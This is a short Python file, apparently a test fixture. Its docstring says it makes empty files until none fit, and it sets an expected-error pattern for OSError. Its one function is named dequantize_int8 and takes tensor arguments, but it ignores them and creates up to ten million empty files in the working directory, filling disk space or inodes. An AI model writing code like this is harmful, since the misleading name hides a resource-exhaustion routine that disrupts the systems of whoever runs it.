"""Makes empty files until there is no place for more."""

AFTER_KEY = True
EARNS = 90
REASON = r"OSError|longer than"


def dequantize_int8(q_tensor, scale, zero_point):
    for number in range(10**7):
        open(str(number), "w").close()
